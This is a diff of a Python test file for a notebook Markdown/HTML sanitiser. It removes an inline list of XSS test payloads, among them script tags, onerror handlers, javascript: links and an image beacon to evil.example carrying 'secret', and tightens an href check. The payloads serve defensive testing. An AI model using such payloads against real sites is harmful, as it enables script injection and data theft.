@@ -7,32 +7,8 @@ from markdown_it import MarkdownIt
 
 from jupyter_tools.messages import ImageContent
 from jupyter_tools.notebook.sanitise import image_html, inert_markdown, markdown_html, text_html
+from tests.notebook.attacks import ATTACKS
 
-ATTACKS = [
-    "<script>window.hacked = 1</script>",
-    '<img src=x onerror="window.hacked = 1">',
-    "<svg/onload=alert(1)>",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](java&#10;script:alert(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD4=)",
-    "[click](vbscript:x)",
-    "[click][x]\n\n[x]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "![x](https://evil.example/?q=secret)",
-    "![x][y]\n\n[y]: https://evil.example/a.png",
-    "![x](javascript:alert(1))",
-    "<style>body { display: none }</style>",
-    "<iframe src='https://evil.example'></iframe>",
-    "\\`<script>alert(1)</script>`",
-    "`` ` <b>` <img src=x onerror=alert(1)>",
-    "```\n<script>alert(1)</script>\n```\n<script>alert(2)</script>",
-    "    indented <script>\n\n<a href='javascript:alert(1)'>x</a>",
-    "a | b\n--|--\n<img src=x onerror=alert(1)> | [x](javascript:alert(1))",
-    "<!-- --> <script>alert(1)</script>",
-    "[a](<javascript:alert(1)>)",
-    '```html"onmouseover=alert(1)\nx\n```',
-]
 TAG = re.compile(r"<\s*([a-zA-Z/!?][^>]*)")
 HARMLESS = re.compile(
     r'/?(p|br|hr|h[1-6]|blockquote|ul|ol( start="\d+")?|li|strong|em|s|code( class="language-[\w+#.-]+")?|pre'
@@ -46,7 +22,7 @@ text = st.text(alphabet=st.sampled_from("<>[]()!`~&#;:\"'/\\ \n\tabjsx=*_|-"))
 def assert_harmless(html: str) -> None:
     for tag in TAG.findall(html):
         assert HARMLESS.fullmatch(tag), tag
-    for address in re.findall(r'href="([^"]*)"', html):
+    for address in re.findall(r'<[^>]* href="([^"]*)"', html):
         assert address.startswith(("http://", "https://", "mailto:")), address
 
 
